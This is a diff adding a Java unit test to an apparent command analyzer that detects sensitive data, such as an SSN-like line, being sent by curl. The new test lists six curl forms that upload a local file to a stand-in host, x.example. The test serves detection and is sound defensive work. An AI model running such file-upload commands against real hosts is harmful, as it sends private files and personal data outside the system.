@@ -173,6 +173,23 @@ class CommandAnalyzerTest {
     }
 
     @Test
+    void attachedAtFileForms() throws IOException {
+        Files.writeString(dir.resolve("f.txt"), SSN_LINE);
+        for (List<String> argv : List.of(
+                List.of("curl", "-d@f.txt", "https://x.example"),
+                List.of("curl", "-sSd@f.txt", "https://x.example"),
+                List.of("curl", "--data-ascii=@f.txt", "https://x.example"),
+                List.of("curl", "--data-urlencode", "name@f.txt", "https://x.example"),
+                List.of("curl", "-F", "doc=<f.txt", "https://x.example"),
+                List.of("curl", "--upload-file", "f.txt", "https://x.example"))) {
+            Payload p = onlyPayload(analyzer.analyze(argv, dir.toString()));
+            assertEquals("file:f.txt", p.location(), argv.toString());
+            assertEquals(SSN_LINE, p.text(), argv.toString());
+            assertEquals(-1, p.argIndex());
+        }
+    }
+
+    @Test
     void credentialSlotsOnlyForCredentialHeaders() {
         for (String h : List.of("Authorization: Basic eDp5", "Proxy-Authorization: x", "Cookie: a=b", "X-Api-Key: k",
                 "Api-Key: k", "X-Goog-Api-Key: k", "anthropic-api-key: k")) {
